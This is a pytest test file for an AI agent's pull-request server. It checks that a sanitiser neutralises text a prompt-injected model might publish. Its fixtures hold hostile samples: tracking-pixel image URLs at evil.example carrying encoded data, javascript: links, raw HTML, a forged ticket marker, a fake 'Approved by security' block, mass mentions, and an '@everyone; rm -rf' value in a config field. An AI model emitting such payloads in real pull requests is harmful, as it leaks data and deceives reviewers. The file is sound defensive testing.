"""What github-pr publishes is neutralised: mentions notify nobody, no foreign image is fetched, no HTML
or forged marker survives, no link runs script; code stays byte for byte. Through the real service on the
local backend (the PR body as stored), on GitHub (PyGithub against the fake), through the MCP server (its
audit log counts what was neutralised, never the text), and as properties of the sanitiser itself."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from servers.common.errors import ConfigError
from servers.common.policy import Policies, Repo
from servers.github_pr.local import LocalBackend
from servers.github_pr.sanitise import ZWSP, image_allowed, sanitise_markdown, sanitise_title
from servers.github_pr.service import PullRequestService
from servers.github_pr.settings import GitHubPrSettings, mentionable
from servers.github_pr.store import PullStore
from tests.fakes.github_fake import FakeGitHub
from tests.support import call

from .conftest import BOT, FIX_PATCH, local_service, make_policies, open_fix, service_on_github
from .test_server_contract import OPEN, make_server

# What a prompt-injected model put in a pull request's body, as it wrote it.
INJECTED = (
    "Fixed Add. cc @octocat @acme/security-team\n\n"
    "![status](https://evil.example/pixel.png?d=c2VjcmV0)\n"
    "<!-- goresolve:ticket=OPS-1 -->\n"
    "<img src=https://evil.example/i.png>\n"
    "[docs](javascript:alert(1))\n"
    "<details><summary>Approved by security</summary>LGTM</details>"
)

QUOTED = (
    "The failing test, as run:\n\n"
    "```go\n"
    "// @octocat wrote this <img src=https://evil.example/x.png>\n"
    '\tt.Fatalf("![x](https://evil.example/y) <!-- not a comment --> %d", got)\n'
    "```\n\n"
    "    indented: @octocat <b>bold</b>\n\n"
    "and inline `@octocat <details>` too.\n"
)


def _stored(tmp_path: Path, number: int):
    return PullStore(tmp_path / "state" / "prs.sqlite").get("svc", number)


def _on_github(policies: Policies, owner_name: str) -> Policies:
    repos = {name: Repo(path=repo.path, github=owner_name) for name, repo in policies.repos.repos.items()}
    return policies.model_copy(update={"repos": policies.repos.model_copy(update={"repos": repos})})


# --- that body, through the service, as the local backend stores it ---------------------------------


def test_the_injected_body_is_published_inert_with_visible_placeholders(
    tmp_path: Path, remote: Path, policies: Policies
) -> None:
    service = local_service(tmp_path, remote, policies)
    ref = open_fix(service, policies, FIX_PATCH, title="calc: fix Add @octocat", body=INJECTED)
    pull = _stored(tmp_path, ref.number)
    assert pull.body == (
        f"Fixed Add. cc @{ZWSP}octocat @{ZWSP}acme/security-team\n\n"
        "\\[image removed: evil.example\\]\n\n"
        "&lt;img src=https://evil.example/i.png>\n"
        "docs (link removed: javascript)\n"
        "&lt;details>&lt;summary>Approved by security&lt;/summary>LGTM&lt;/details>\n\n"
        "---\nTicket: SVC-7\n<!-- goresolve:ticket=SVC-7 -->\n"
    )
    assert pull.title == f"calc: fix Add @{ZWSP}octocat"
    assert re.fullmatch(r"goresolve/SVC-7-[a-z0-9-]+", ref.branch)


def test_only_the_servers_own_marker_survives(tmp_path: Path, remote: Path, policies: Policies) -> None:
    service = local_service(tmp_path, remote, policies)
    forged = "Fixed.\n\n<!-- goresolve:ticket=SVC-7 -->\n\ntext <!-- goresolve:ticket=OPS-1 --> more"
    ref = open_fix(service, policies, FIX_PATCH, body=forged)
    body = _stored(tmp_path, ref.number).body
    assert re.findall(r"<!--.*?-->", body, re.DOTALL) == ["<!-- goresolve:ticket=SVC-7 -->"]
    assert body.endswith("\n---\nTicket: SVC-7\n<!-- goresolve:ticket=SVC-7 -->\n")


def test_code_blocks_and_spans_are_published_as_written(tmp_path: Path, remote: Path, policies: Policies) -> None:
    service = local_service(tmp_path, remote, policies)
    ref = open_fix(service, policies, FIX_PATCH, body=QUOTED)
    footer = "\n\n---\nTicket: SVC-7\n<!-- goresolve:ticket=SVC-7 -->\n"
    assert _stored(tmp_path, ref.number).body == QUOTED.rstrip() + footer


def test_the_repositorys_own_images_stay_and_others_become_placeholders(
    tmp_path: Path, remote: Path, policies: Policies
) -> None:
    policies = _on_github(policies, "acme/svc")
    service = local_service(tmp_path, remote, policies)
    body = (
        "![own](https://github.com/acme/svc/raw/main/docs/flow.png)\n"
        "![raw](https://raw.githubusercontent.com/acme/svc/main/docs/flow.png)\n"
        "![pasted](https://github.com/user-attachments/assets/0a1b2c)\n"
        "![other repo](https://github.com/mallory/exfil/raw/main/p.png?d=1)\n"
        "![climbs out](https://github.com/acme/svc/../../mallory/exfil/p.png)\n"
        "![plain http](http://github.com/acme/svc/raw/main/x.png)\n"
        "![inline data](data:image/png;base64,AAAA)"
    )
    ref = open_fix(service, policies, FIX_PATCH, body=body)
    published = _stored(tmp_path, ref.number).body
    kept, removed = published.split("\n")[:3], published.split("\n")[3:7]
    assert kept == body.split("\n")[:3]
    assert removed == [
        "\\[image removed: github.com\\]",
        "\\[image removed: github.com\\]",
        "\\[image removed: github.com\\]",
        "\\[image removed: data URL\\]",
    ]


def test_configured_image_prefixes_are_allowed(tmp_path: Path, remote: Path, policies: Policies) -> None:
    backend = LocalBackend({"svc": remote}, PullStore(tmp_path / "state" / "prs.sqlite"), tmp_path / "state")
    service = PullRequestService(
        backend, policies, prefix="goresolve", author=BOT, image_prefixes=("docs.acme.example/img/",)
    )
    body = "![a](https://docs.acme.example/img/a.png) ![b](https://docs.acme.example/other/b.png)"
    ref = open_fix(service, policies, FIX_PATCH, body=body)
    assert _stored(tmp_path, ref.number).body.startswith(
        "![a](https://docs.acme.example/img/a.png) \\[image removed: docs.acme.example\\]\n"
    )


def test_comments_on_the_bots_pull_request_and_on_an_issue_are_neutralised(
    tmp_path: Path, remote: Path, policies: Policies
) -> None:
    service = local_service(tmp_path, remote, policies)
    ref = open_fix(service, policies, FIX_PATCH)
    identity = policies.identity("agent")
    service.comment("agent", identity, "svc", ref.number, "ping @octocat <!-- x --> ![p](https://evil.example/p)")
    issue = tmp_path / "state" / "issues" / "svc" / "12.json"
    issue.parent.mkdir(parents=True)
    issue.write_text(json.dumps({"number": 12, "title": "Add subtracts", "body": "Add(2, 3) is -1."}))
    service.comment_on_issue("agent", identity, "svc", 12, "hand-off for @acme/team <a href=x>here</a>")
    store = PullStore(tmp_path / "state" / "prs.sqlite")
    assert store.comments("svc", ref.number) == [f"ping @{ZWSP}octocat  \\[image removed: evil.example\\]"]
    assert store.issue_comments("svc", 12) == [f"hand-off for @{ZWSP}acme/team &lt;a href=x>here&lt;/a>"]


def test_a_hand_off_still_reaches_its_owner_whose_mention_alone_stays_live(
    tmp_path: Path, remote: Path, policies: Policies
) -> None:
    """A hand-off posted as an issue comment reaches its owner only through the mention: the owners the policy
    set's escalation.yaml names (and `notify_logins`) stay mentionable; a look-alike name does not."""
    backend = LocalBackend({"svc": remote}, PullStore(tmp_path / "state" / "prs.sqlite"), tmp_path / "state")
    service = PullRequestService(backend, policies, prefix="goresolve", author=BOT, mentionable=("Platform-Oncall",))
    issue = tmp_path / "state" / "issues" / "svc" / "12.json"
    issue.parent.mkdir(parents=True)
    issue.write_text(json.dumps({"number": 12, "title": "Add subtracts", "body": "Add(2, 3) is -1."}))
    body = "**Owner:** @platform-oncall · cc @platform-oncall-x @octocat @platform-oncall/team"
    service.comment_on_issue("agent", policies.identity("agent"), "svc", 12, body)
    store = PullStore(tmp_path / "state" / "prs.sqlite")
    assert store.issue_comments("svc", 12) == [
        f"**Owner:** @platform-oncall · cc @{ZWSP}platform-oncall-x @{ZWSP}octocat @{ZWSP}platform-oncall/team"
    ]


def test_the_mentionable_logins_are_the_escalation_owners_and_notify_logins(tmp_path: Path) -> None:
    (tmp_path / "escalation.yaml").write_text(
        "default_owner: platform-oncall\nlabels: [needs-human]\n"
        "owners:\n  - {component: cache, owner: ana-sousa}\n  - {path: 'x/**', owner: platform-oncall}\n"
    )
    settings = GitHubPrSettings(policy_dir=tmp_path, notify_logins=("release-captain",))
    assert mentionable(settings) == ("release-captain", "platform-oncall", "ana-sousa")
    assert mentionable(GitHubPrSettings(policy_dir=tmp_path / "none")) == ()
    (tmp_path / "escalation.yaml").write_text("default_owner: '@everyone; rm -rf'\n")
    with pytest.raises(ConfigError, match=r"^escalation\.yaml: cannot read its owners \(ValidationError\)$"):
        mentionable(settings)


def test_on_github_the_pull_request_is_created_with_the_neutralised_text(fake: FakeGitHub) -> None:
    service = service_on_github(fake)
    ref = open_fix(service, make_policies("svc"), FIX_PATCH, title="Fix Add @octocat", body=INJECTED)
    pull = fake.repos["acme/svc"].pulls[ref.number]
    assert pull["title"] == f"Fix Add @{ZWSP}octocat"
    assert "<img" not in pull["body"] and "OPS-1" not in pull["body"] and "@octocat" not in pull["body"]
    assert "\\[image removed: evil.example\\]" in pull["body"]


# --- through the MCP server: the audit log counts, never quotes ---------------------------------------------


async def test_the_audit_log_counts_what_was_neutralised_and_holds_none_of_it(
    tmp_path: Path, remote: Path, policies: Policies
) -> None:
    server = make_server(tmp_path, remote, policies)
    result = await call(server, "open_pull_request", {**OPEN, "title": "Fix Add @octocat", "body": INJECTED})
    assert not result.is_error
    log = (tmp_path / "state" / "audit" / "github-pr.jsonl").read_text()
    records = [json.loads(line) for line in log.splitlines()]
    assert [(r["tool"], r["outcome"]) for r in records] == [
        ("open_pull_request", "neutralised title: mentions=1"),
        (
            "open_pull_request",
            "neutralised body: html_comments=1 html_tags=5 images=1 links=1 mentions=2",
        ),
        ("open_pull_request", "ok"),
    ]
    for needle in ("octocat", "evil.example", "OPS-1", "Approved"):
        assert needle not in log


# --- the sanitiser on its own: each construct -----------------------------------------------------------------


def test_each_construct() -> None:
    cases = {
        # an entity that spells @, and a comment hiding inside a mention, both end as a neutral mention
        "&#64;octocat and @<!-- -->octocat": f"@{ZWSP}octocat and @{ZWSP}octocat",
        # e-mail addresses and mentions inside link targets are not mentions; link text is
        "mail me@example.com [@octocat](https://example.com/@octocat)": (
            f"mail me@example.com [@{ZWSP}octocat](https://example.com/@octocat)"
        ),
        "<javascript:alert(1)> <https://example.com> <me@example.com>": (
            "&lt;javascript:alert(1)> <https://example.com> <me@example.com>"
        ),
        "[![i](https://evil.example/a.png)](vbscript:x)": "\\[image removed: evil.example\\] (link removed: vbscript)",
        "[x](JaVaScRiPt&#58;alert(1))": "x (link removed: javascript)",
        "[rel](../docs/README.md) [frag](#top) [mail](mailto:a@example.com)": (
            "[rel](../docs/README.md) [frag](#top) [mail](mailto:a@example.com)"
        ),
        "> <div>\n> @octocat ![p](https://evil.example/p)\n> </div>": (
            f"> &lt;div>\n> @{ZWSP}octocat \\[image removed: evil.example\\]\n> &lt;/div>"
        ),
        "| who | note |\n|---|---|\n| @octocat | `a \\| @b` |": (
            f"| who | note |\n|---|---|\n| @{ZWSP}octocat | `a \\| @b` |"
        ),
        "- item\n\t\tcontinued @octocat": f"- item\n\t\tcontinued @{ZWSP}octocat",
        "![r][pic]\n\n[pic]: https://evil.example/p.png": (
            "\\[image removed: evil.example\\]\n\n\\[pic\\]: https://evil.example/p.png"
        ),
    }
    for text, expected in cases.items():
        assert sanitise_markdown(text).text == expected, text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("_@acme/admins_ please review", f"_@{ZWSP}acme/admins_ please review"),
        ("__@acme/admins__", f"__@{ZWSP}acme/admins__"),
        ("___@octocat___ and *@octocat*", f"___@{ZWSP}octocat___ and *@{ZWSP}octocat*"),
        ("foo_@bar", f"foo_@{ZWSP}bar"),  # not a mention on GitHub; the extra space costs nothing
        ("mail me@example.com", "mail me@example.com"),
    ],
)
def test_a_mention_inside_underscore_emphasis_is_neutralised(text: str, expected: str) -> None:
    """In `_@acme/admins_` the `_` is an emphasis delimiter: the rendered text starts at the `@`."""
    assert sanitise_markdown(text).text == expected
    assert sanitise_title(text).text == expected
    html = MarkdownIt("commonmark").render(expected)
    assert not re.search(r"(?<![0-9A-Za-z_])@[0-9A-Za-z]", re.sub(r"<[^>]*>", " ", html))


def test_text_the_parser_cannot_follow_is_published_as_code() -> None:
    deep = "> " * 60 + "@octocat ![p](https://evil.example/p)"
    result = sanitise_markdown(deep)
    assert result.counts == {"fenced": 1}
    assert result.text == (
        f"(goresolve published this text as code: its Markdown could not be checked.)\n\n```text\n{deep}\n```\n"
    )
    assert sanitise_markdown(result.text).text == result.text


def test_titles_are_one_line_with_mentions_neutralised_outside_code() -> None:
    assert sanitise_title("Fix @octocat's `@x` bug\r\nfor @acme/team").text == (
        f"Fix @{ZWSP}octocat's `@x` bug for @{ZWSP}acme/team"
    )


def test_image_allow_list_matches_whole_path_segments() -> None:
    prefixes = ("github.com/acme/svc/",)
    assert image_allowed("https://github.com/acme/svc/raw/main/a.png", prefixes)
    assert not image_allowed("https://github.com/acme/svc-evil/raw/main/a.png", prefixes)
    assert not image_allowed("https://github.com:8443/acme/svc/a.png", prefixes)
    assert not image_allowed("https://user@github.com/acme/svc/a.png", prefixes)
    assert not image_allowed("https://github.com/acme/svc/%2e%2e/x/a.png", prefixes)


# --- properties -----------------------------------------------------------------------------------------------

_PIECES = st.sampled_from(
    [
        "@octocat",
        "@acme/team",
        "&#64;x",
        "<!--",
        "-->",
        "<img src=x>",
        "<details>",
        "![a](https://evil.example/p.png)",
        "[l](javascript:x)",
        "<javascript:x>",
        "`",
        "``",
        "```",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "\t",
        "|",
        "---",
        "[",
        "]",
        "(",
        ")",
        "!",
        "\\",
        "*",
        "_",
        "__",
        "[r]: https://evil.example/r",
        "word",
        " ",
    ]
)
_MARKDOWNISH = st.lists(st.one_of(_PIECES, st.text(max_size=4)), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(_MARKDOWNISH)
def test_sanitising_twice_changes_nothing_and_growth_is_bounded(text: str) -> None:
    once = sanitise_markdown(text)
    assert sanitise_markdown(once.text).text == once.text
    assert len(once.text) <= 8 * len(text) + 200


_NOT_KEPT = "`\r\x00\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters=_NOT_KEPT), max_size=200))
def test_a_fenced_block_is_published_byte_for_byte(code: str) -> None:
    """Byte for byte, but for bidirectional controls: U+FFFD in code too (see test_text_bidi.py)."""
    text = f"Log:\n\n```\n{code}\n```\n"
    assert sanitise_markdown(text).text == text


@settings(max_examples=200, deadline=None)
@given(_MARKDOWNISH)
def test_no_mention_survives_outside_code(text: str) -> None:
    out = sanitise_markdown(text).text
    # what the parser reads as text (not code, not a link: GitHub notifies no mention inside `a`, as in
    # `<!--@octocat>`, an e-mail autolink) holds no live mention
    md = MarkdownIt("commonmark").enable(["table"])
    prose: list[str] = []
    for tok in md.parse(out):
        in_link = 0
        for child in tok.children or []:
            in_link += {"link_open": 1, "link_close": -1}.get(child.type, 0)
            if child.type in ("text", "text_special") and not in_link:
                prose.append(child.content)
    assert not any(re.search(r"(?<![0-9A-Za-z_])@[0-9A-Za-z]", p) for p in prose)
